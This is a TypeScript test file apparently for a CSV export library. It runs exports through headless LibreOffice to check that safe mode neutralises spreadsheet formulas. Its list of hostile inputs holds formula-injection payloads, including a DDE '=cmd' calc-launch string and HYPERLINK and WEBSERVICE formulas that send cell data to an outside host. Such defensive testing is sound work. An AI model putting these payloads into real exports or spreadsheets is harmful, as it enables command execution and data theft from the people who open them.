import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createCsvApi } from 'kv-review/api/csv';
import { exportCsv, type CsvMode } from 'kv-review/export/csv';
import type { Session } from 'kv-review/model';
import { edgeSessions, sampleSessions } from 'kv-review/testing';

const soffice = process.env.LIBREOFFICE_PATH ?? 'soffice';
const folder = mkdtempSync(join(tmpdir(), 'kv-review-libreoffice-'));
after(() => rmSync(folder, { recursive: true, force: true }));

// prettier-ignore
const hostileTexts = [
  '=1+1', '+1+1', '-1+1', '@SUM(1;2)', '\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\0=1+1', '\u200b=1+1',
  '\u2060\u200e=1+1', '\u3164=1+1', ' =1+1', '\u00a0=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '−5', "'=1+1", "''=1+1",
  '"=1+1"', '""=1+1', '"', '""', '","=1+1,"', 'two\nlines', 'two\r\n=1+1', 'two\r=1+1', 'Ana;=1+1', 'Ana;"=1+1";',
  'Ana\t=1+1', 'Ana|=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.test?"&A1;"x")', '=WEBSERVICE("http://example.test")',
  '=1+1";"=1+1', '\n"=1+1', '+995 555 123456', '+995555123456', '-12', '-12,5', '0123', '01234567890',
  '12345678901234567890', '12E5', '1.5', '1,5', '17.0', '1/2', '2026-01-02', '01.02.2026', '10:30', '50%', 'TRUE',
  '192.0.2.1', '2001:db8::1', 'გიორგი', 'Łukasz', 'Ελένη', 'Андрей', 'Հայկ', 'שרה', 'محمد', '\u202eevil', '😀',
];

const [first] = sampleSessions({ count: 1, seed: 1 });
assert.ok(first);
const hostile = hostileTexts.map((text, index): Session => ({
  ...first,
  id: `hostile-${index}`,
  companyName: text,
  client: {
    ...first.client,
    firstName: text,
    lastName: text,
    documentNumber: text,
    personalNumber: text,
    nationality: text,
  },
  clientIp: text,
  device: { ...first.device, name: text, browser: text, os: text },
  extra: [{ key: text, value: text }],
}));
const sessions = [...hostile, ...sampleSessions({ count: 300, seed: 2 }), ...edgeSessions()];

async function write(mode: CsvMode): Promise<string> {
  const chunks: string[] = [];
  for await (const chunk of exportCsv(sessions, { mode, reasons: true })) chunks.push(chunk);
  return chunks.join('');
}

const languages = { 'English (US)': 1033, German: 1031, Georgian: 1079 };
const separators = { comma: 44, semicolon: 59, tab: 9, bar: 124 };

let runs = 0;

/** LibreOffice's reading of a file with this separator and language. */
function convert(text: string, to: string, separator: number, language: number): string {
  runs += 1;
  const place = join(folder, String(runs));
  mkdirSync(place);
  const file = join(place, 'sessions.csv');
  writeFileSync(file, text);
  const args = [
    '--headless',
    `-env:UserInstallation=file://${join(folder, 'profile')}`,
    // Separator, quotation mark, UTF-8, first row, column formats, language.
    `--infilter=CSV:${separator},34,76,1,,${language}`,
    '--convert-to',
    to,
    '--outdir',
    join(place, 'out'),
    file,
  ];
  execFileSync(soffice, args, { stdio: 'pipe', timeout: 120_000 });
  const extension = to.split(':')[0] ?? to;
  return readFileSync(join(place, 'out', `sessions.${extension}`), 'utf8');
}

const toCells = (text: string): string[][] =>
  parse(text, { bom: true, record_delimiter: ['\r\n', '\n'], relax_column_count: true });

/** A cell of LibreOffice has no NUL, and one kind of line break. */
const asCell = (text: string): string => text.replaceAll('\0', '').replace(/\r\n?/g, '\n');

describe('LibreOffice opens an export in safe mode', async () => {
  const text = await write('safe');
  const written = parse(text, { bom: true, record_delimiter: '\r\n' });

  it('that an independent parser can read: 25 columns, a row for each session', () => {
    assert.equal(written.length, sessions.length + 1);
    assert.ok(written.every((row) => row.length === 25));
  });

  for (const [language, code] of Object.entries(languages)) {
    it(`in ${language} and writes every cell back unchanged`, () => {
      const csv = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false';
      const read = toCells(convert(text, csv, separators.comma, code));
      assert.equal(read.length, written.length);
      const changed = written.flatMap((row, number) =>
        row.flatMap((cell, column) =>
          read[number]?.[column] === asCell(cell)
            ? []
            : [{ number, column: written[0]?.[column], cell, read: read[number]?.[column] }],
        ),
      );
      assert.deepEqual(changed, []);
    });
  }

  for (const [name, separator] of Object.entries(separators)) {
    it(`with the separator ${name} and finds no formula`, () => {
      const sheet = convert(text, 'fods', separator, languages['English (US)']);
      assert.match(sheet, /table:table-cell/);
      assert.doesNotMatch(sheet, /table:formula/);
    });
  }

  it('and the file that it writes can still be read back', async () => {
    const csv = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false';
    const { api, errors } = await createCsvApi(
      convert(text, csv, separators.comma, languages['English (US)']),
    );
    assert.deepEqual(errors, []);
    for (const { id, client } of hostile) {
      const read = await api.getSession(id);
      assert.equal(read.client.lastName, asCell(client.lastName ?? ''));
    }
  });
});

describe('LibreOffice opens an export in raw mode', () => {
  it('and finds formulas, which shows that the check works', async () => {
    const sheet = convert(await write('raw'), 'fods', separators.comma, languages['English (US)']);
    assert.match(sheet, /table:formula/);
  });
});
